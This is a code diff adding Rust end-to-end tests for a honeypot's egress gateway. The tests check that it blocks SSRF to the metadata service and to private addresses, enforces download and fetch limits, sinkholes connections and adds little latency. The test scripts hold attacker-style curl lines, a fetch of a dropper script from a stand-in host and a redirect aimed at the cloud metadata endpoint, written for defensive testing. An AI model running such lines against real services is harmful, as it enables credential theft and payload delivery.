@@ -222,3 +222,320 @@ fn egress_fetch_a_dropper_its_second_stage_and_each_tool_are_captured() {
         );
     }
 }
+
+/// A listener of the test's own on every host address, on a port fetches may use:
+/// a refused fetch must never reach it.
+struct Witness(TcpListener);
+
+impl Witness {
+    fn new() -> Witness {
+        let listener = TcpListener::bind(("0.0.0.0", 0)).expect("bind witness");
+        listener.set_nonblocking(true).expect("nonblocking");
+        Witness(listener)
+    }
+
+    fn port(&self) -> u16 {
+        self.0.local_addr().expect("address").port()
+    }
+
+    #[track_caller]
+    fn assert_untouched(&self) {
+        match self.0.accept() {
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+            other => panic!("a refused fetch reached the host's listener: {other:?}"),
+        }
+    }
+}
+
+#[test]
+fn egress_fetch_ssrf_names_and_redirects_are_refused_and_nothing_connects() {
+    require_docker!();
+    let internet = TestInternet::start("ssrf", &files());
+    let witness = Witness::new();
+    let port = witness.port();
+    let options = egress_options(&internet, EgressMode::Fetch)
+        .configure(move |c| c.egress.upstream_ports.push(port));
+    let hermes = Hermes::start(options);
+
+    // Each name resolves (the static map says so) to an address no fetch may reach.
+    let refused = [
+        ("meta.test", "metadata"),
+        ("lan.test", "private"),
+        ("gateway.test", "private"),
+        ("self.test", "private"),
+    ];
+    let mut script = String::new();
+    for (name, _) in refused {
+        script.push_str(&format!(
+            "curl -s -o /dev/null http://{name}:{port}/ssrf; echo {name} rc=$?; "
+        ));
+    }
+    // 127.0.0.1 is the box's own loopback: refused there (curl 7), never at the
+    // gateway, and never the host's.
+    script.push_str(&format!(
+        "curl -s -o /dev/null http://loop.test:{port}/ssrf; echo loop.test rc=$?; "
+    ));
+    // A redirect from an allowed server to the metadata service: the client
+    // follows it, and the gateway refuses the second connection.
+    script.push_str(&format!(
+        "curl -s -L -o /dev/null 'http://dropper.test/redirect?to=http://meta.test:{port}/latest/meta-data/'; echo redirect rc=$?"
+    ));
+    let (code, out) = ssh(&hermes, &script);
+    assert_eq!(code, Some(0), "{out}");
+    for (name, _) in refused {
+        // curl 52: an empty reply, as from a server that failed.
+        assert!(out.contains(&format!("{name} rc=52")), "{out}");
+    }
+    assert!(out.contains("redirect rc=52"), "{out}");
+    assert!(out.contains("loop.test rc=7"), "{out}");
+
+    let events = hermes.wait_for_events("every refused fetch", |events| {
+        refused
+            .iter()
+            .all(|(name, _)| !failures_of(events, &format!("http://{name}:{port}/ssrf")).is_empty())
+            && !failures_of(events, &format!("http://meta.test:{port}/latest/meta-data/"))
+                .is_empty()
+    });
+    for (name, reason) in refused {
+        let failure = failures_of(&events, &format!("http://{name}:{port}/ssrf")).remove(0);
+        assert_eq!(failure["reason"], reason, "{failure}");
+        assert!(failure.get("upstream_bytes").is_none(), "{failure}");
+        assert!(failure["session"].as_str().is_some_and(|s| !s.is_empty()));
+    }
+    let followed =
+        failures_of(&events, &format!("http://meta.test:{port}/latest/meta-data/")).remove(0);
+    assert_eq!(followed["reason"], "metadata", "{followed}");
+    assert_eq!(
+        followed["upstream"],
+        format!("169.254.169.254:{port}"),
+        "{followed}"
+    );
+    // The redirect itself was fetched (and reported as not a download).
+    let redirect = events
+        .iter()
+        .find(|e| {
+            e["eventid"] == "cowrie.session.file_download.failed"
+                && e["url"]
+                    .as_str()
+                    .is_some_and(|u| u.starts_with("http://dropper.test/redirect"))
+        })
+        .unwrap_or_else(|| panic!("no event for the redirect: {events:#?}"));
+    assert_eq!(redirect["reason"], "http_status", "{redirect}");
+    assert!(
+        downloads_of(&events, &format!("http://meta.test:{port}/latest/meta-data/")).is_empty()
+    );
+
+    assert!(failures_of(&events, &format!("http://loop.test:{port}/ssrf")).is_empty());
+    assert!(
+        !events
+            .iter()
+            .any(|e| e["eventid"] == "hermes.egress.connection" && e["dst_port"] == port),
+        "every connection to the port was the fetcher's to refuse"
+    );
+    // Nothing connected: not the host's listener (loopback, the host's own address),
+    // and the test server saw the redirect only.
+    witness.assert_untouched();
+    let (requests, _) = internet.stats();
+    assert_eq!(requests.len(), 1, "{requests:?}");
+    assert!(requests[0].starts_with("/redirect"), "{requests:?}");
+}
+
+#[test]
+fn egress_fetch_limits_cut_a_big_download_refuse_fetches_and_cap_concurrency() {
+    require_docker!();
+    const CONCURRENT: u32 = 4;
+    const PARALLEL: usize = 20;
+    const DOWNLOAD_SIZE: u64 = 64 * 1024;
+    let internet = TestInternet::start("limits", &files());
+    let options = egress_options(&internet, EgressMode::Fetch).configure(|c| {
+        let limits = &mut c.egress.limits;
+        limits.download_size = ByteSize::kib(64);
+        limits.concurrent_fetches = CONCURRENT;
+        // The big one and the parallel ones; the next is one too many.
+        limits.fetches_per_session = PARALLEL as u32 + 1;
+        // Twenty curls at once ask A and AAAA each: not this test's limit.
+        c.egress.dns.queries_per_second = 1000;
+    });
+    let hermes = Hermes::start(options);
+
+    let script = format!(
+        "curl -s -o /tmp/big.bin http://cdn.test/big.bin; echo big rc=$? size=$(wc -c < /tmp/big.bin); \
+         start=$(date +%s%N); \
+         for i in $(seq 1 {PARALLEL}); do curl -s -o /tmp/p$i 'http://cdn.test/slow/small.bin?'$i & done; wait; \
+         echo parallel ok=$(cat /tmp/p* | grep -c 'a small file') ms=$(( ($(date +%s%N) - start) / 1000000 )); \
+         curl -s -o /dev/null 'http://cdn.test/small.bin?over'; echo over rc=$?"
+    );
+    let (code, out) = ssh(&hermes, &script);
+    assert_eq!(code, Some(0), "{out}");
+
+    // Cut at the limit: the box's curl gets a partial file (18), the store exactly
+    // the limit's bytes, and the event says so.
+    assert!(
+        out.contains(&format!("big rc=18 size={DOWNLOAD_SIZE}")),
+        "{out}"
+    );
+    let big = served("big.bin");
+    let cut = &big[..DOWNLOAD_SIZE as usize];
+    let event = assert_captured(&hermes, "http://cdn.test/big.bin", cut);
+    assert_eq!(event["truncated"], true, "{event}");
+    assert_eq!(event["reason"], "download_size", "{event}");
+
+    // Twenty at once: all fetched, never more than the cap upstream at a time, and
+    // the cap was reached (the load happened).
+    assert!(out.contains(&format!("parallel ok={PARALLEL} ")), "{out}");
+    let events = hermes.wait_for_events("the parallel downloads", |events| {
+        (1..=PARALLEL).all(|i| {
+            !downloads_of(events, &format!("http://cdn.test/slow/small.bin?{i}")).is_empty()
+        })
+    });
+    let (requests, max_concurrent) = internet.stats();
+    let slow = requests.iter().filter(|r| r.starts_with("/slow/")).count();
+    assert_eq!(slow, PARALLEL, "{requests:?}");
+    assert_eq!(max_concurrent, u64::from(CONCURRENT), "{requests:?}");
+    let elapsed_ms: u64 = out
+        .split("ms=")
+        .nth(1)
+        .and_then(|rest| rest.split_whitespace().next())
+        .and_then(|ms| ms.parse().ok())
+        .unwrap_or_else(|| panic!("{out}"));
+    // Five rounds of one second each at least.
+    let rounds = PARALLEL.div_ceil(CONCURRENT as usize) as u64;
+    assert!(elapsed_ms >= rounds * 1000 - 200, "{elapsed_ms} ms: {out}");
+
+    // One fetch over the session's count: refused before any connection.
+    assert!(out.contains("over rc=52"), "{out}");
+    let over = hermes.wait_for_events("the refused fetch", |events| {
+        !failures_of(events, "http://cdn.test/small.bin?over").is_empty()
+    });
+    let over = failures_of(&over, "http://cdn.test/small.bin?over").remove(0);
+    assert_eq!(over["reason"], "fetches_per_session", "{over}");
+    assert_eq!(
+        internet
+            .stats()
+            .0
+            .iter()
+            .filter(|r| r.contains("over"))
+            .count(),
+        0
+    );
+    drop(events);
+
+    // The count is the session's: the next session fetches again.
+    let (code, out) = ssh(
+        &hermes,
+        "curl -s http://cdn.test/small.bin?next; echo rc=$?",
+    );
+    assert_eq!(code, Some(0), "{out}");
+    assert!(out.contains("a small file"), "{out}");
+    assert_captured(&hermes, "http://cdn.test/small.bin?next", b"a small file\n");
+}
+
+#[test]
+fn egress_sinkhole_answers_dns_and_fetches_nothing() {
+    require_docker!();
+    let internet = TestInternet::start("sinkhole", &files());
+    let hermes = Hermes::start(egress_options(&internet, EgressMode::Sinkhole));
+    let (code, out) = ssh(
+        &hermes,
+        "getent hosts dropper.test; curl -s -o /tmp/x.sh http://dropper.test/x.sh; echo rc=$?",
+    );
+    assert_eq!(code, Some(0), "{out}");
+    assert!(
+        out.starts_with(&format!("{} ", internet.server)),
+        "resolved: {out}"
+    );
+    // Refused (reset), as a firewall would.
+    assert!(out.contains("rc=56"), "{out}");
+    let server = internet.server.to_string();
+    let events = hermes.wait_for_events("the refused connection", |events| {
+        events.iter().any(|e| {
+            e["eventid"] == "hermes.egress.connection" && e["dst_ip"] == server.as_str()
+        })
+    });
+    let connection = events
+        .iter()
+        .find(|e| e["eventid"] == "hermes.egress.connection" && e["dst_ip"] == server.as_str())
+        .cloned()
+        .unwrap_or_default();
+    assert_eq!(connection["dst_port"], 80, "{connection}");
+    assert_eq!(connection["app_protocol"], "http", "{connection}");
+    assert_eq!(connection["answer"], "reject", "{connection}");
+    assert!(
+        connection["first_bytes"]
+            .as_str()
+            .is_some_and(|b| b.starts_with("GET /x.sh HTTP/1.1")),
+        "{connection}"
+    );
+    assert!(
+        events.iter().any(|e| e["eventid"] == "hermes.egress.dns"
+            && e["query"].as_str().is_some_and(|q| q.starts_with("dropper.test"))),
+        "DNS answered"
+    );
+    assert!(downloads_of(&events, "http://dropper.test/x.sh").is_empty());
+    assert!(failures_of(&events, "http://dropper.test/x.sh").is_empty());
+    let (requests, _) = internet.stats();
+    assert!(requests.is_empty(), "{requests:?}");
+}
+
+/// Seconds from a curl `-w '%{time_total}\n'` loop, one per line.
+fn timings(out: &str) -> Vec<f64> {
+    out.lines()
+        .filter_map(|l| l.strip_prefix("t="))
+        .filter_map(|t| t.trim().parse().ok())
+        .collect()
+}
+
+fn median_p90(mut times: Vec<f64>) -> (f64, f64) {
+    times.sort_by(f64::total_cmp);
+    let at = |q: f64| times[((times.len() as f64 * q) as usize).min(times.len() - 1)];
+    (at(0.5) * 1000.0, at(0.9) * 1000.0)
+}
+
+/// The latency a fetch through the gateway adds: curl in the box against curl on
+/// the host, the same file from the same test server by address (no DNS), 100 each.
+#[test]
+#[ignore = "a measurement: cargo nextest run -p hermes --test e2e --run-ignored only egress_fetch_latency"]
+fn egress_fetch_latency_through_the_gateway() {
+    require_docker!();
+    const RUNS: usize = 100;
+    let internet = TestInternet::start("latency", &files());
+    let options = egress_options(&internet, EgressMode::Fetch)
+        .configure(|c| c.egress.limits.fetches_per_session = 1000);
+    let hermes = Hermes::start(options);
+    let url = format!("http://{}/small.bin", internet.server);
+    let script = format!(
+        "for i in $(seq 1 {RUNS}); do curl -s -o /dev/null -w 't=%{{time_total}}\\n' {url}; done"
+    );
+    let direct = Command::new("sh")
+        .args(["-c", &script])
+        .output()
+        .expect("curl on the host");
+    let direct = timings(&String::from_utf8_lossy(&direct.stdout));
+    let started = Instant::now();
+    let (code, out) = ssh(&hermes, &script);
+    assert_eq!(code, Some(0), "{out}");
+    let gateway = timings(&out);
+    assert_eq!(direct.len(), RUNS, "every direct fetch timed");
+    assert_eq!(gateway.len(), RUNS, "every fetch through the gateway timed: {out}");
+    let (requests, _) = internet.stats();
+    assert_eq!(
+        requests.iter().filter(|r| *r == "/small.bin").count(),
+        2 * RUNS,
+        "each fetch reached the server"
+    );
+    let (direct_median, direct_p90) = median_p90(direct);
+    let (gateway_median, gateway_p90) = median_p90(gateway);
+    eprintln!(
+        "fetch of a 13-byte file, {RUNS} runs each (curl time_total): direct from the host median {direct_median:.2} ms p90 {direct_p90:.2} ms; \
+         box through the gateway median {gateway_median:.2} ms p90 {gateway_p90:.2} ms; \
+         added median {:.2} ms p90 {:.2} ms (box loop {:?})",
+        gateway_median - direct_median,
+        gateway_p90 - direct_p90,
+        started.elapsed(),
+    );
+    assert!(
+        gateway_median - direct_median < 100.0,
+        "the gateway adds {gateway_median:.2} - {direct_median:.2} ms"
+    );
+    let _ = Duration::ZERO;
+}
